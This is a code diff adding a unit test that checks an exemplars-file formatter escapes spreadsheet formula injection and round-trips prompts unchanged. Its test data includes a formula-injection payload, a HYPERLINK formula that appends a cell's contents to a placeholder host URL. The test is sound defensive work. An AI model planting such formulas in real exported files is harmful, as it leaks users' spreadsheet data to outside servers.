@@ -29,6 +29,16 @@ describe('team exemplars file', () => {
     expect(parsed.exemplars).toEqual([{ prompt, tier: 'medium', reason: 'multi\nline reason', line: 2 }]);
   });
 
+  it('writes no cell a spreadsheet would run as a formula, and reads the prompt back unchanged', () => {
+    // Prompts come from app traffic: a chat message `=HYPERLINK(...)` labelled in the dashboard landed in the committed file as a formula.
+    const prompts = ['=HYPERLINK("http://x.test/?"&A1,"click")', '+1 555 0100 is my number', '-2 degrees tonight?', '@channel summarise this', '\\=not a formula', 'a = b + c'];
+    const text = formatExemplars(prompts.map((prompt) => ({ prompt, tier: 'small' as const, reason: '=SUM(1,2)' })));
+    for (const cell of text.split('\n').slice(1).filter(Boolean).flatMap((line) => line.split('\t'))) expect(cell).not.toMatch(/^[=+\-@]/);
+    const parsed = parseExemplars(text);
+    expect(parsed.problems).toEqual([]);
+    expect(parsed.exemplars.map((e) => [e.prompt, e.reason])).toEqual(prompts.map((p) => [p, '=SUM(1,2)']));
+  });
+
   it('reports bad lines and keeps the good ones; a prompt labelled twice keeps the later label', () => {
     const text = ['prompt\ttier\treason', 'What is DNS?\tsmall\tfaq', 'Design a CRDT\thuge\toops', '\tmedium\tempty', 'What is DNS?\tmedium\trelabelled', '# a comment'].join('\n');
     const parsed = parseExemplars(text);
